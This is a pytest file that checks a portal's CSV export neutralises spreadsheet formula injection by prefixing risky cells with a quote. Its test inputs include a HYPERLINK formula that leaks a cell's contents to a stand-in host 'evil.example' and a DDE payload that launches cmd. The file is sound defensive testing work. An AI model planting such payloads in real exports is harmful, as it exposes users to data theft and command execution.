"""Every CSV the portal exports is safe to open in a spreadsheet (services.csv_export)."""

from __future__ import annotations

import csv
import io

import pytest

from services.csv_export import csv_document, spreadsheet_cell


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(typed: str) -> None:
    (header, row) = list(csv.reader(io.StringIO(csv_document(["typed"], [[typed]]), newline="")))

    assert header == ["typed"]
    assert row == ["'" + typed]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("lee@example.org", "lee@example.org"), ("'=quoted", "'=quoted"), (-5, -5), (None, ""), (3.5, 3.5)],
)
def test_other_values_are_written_as_they_are(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell
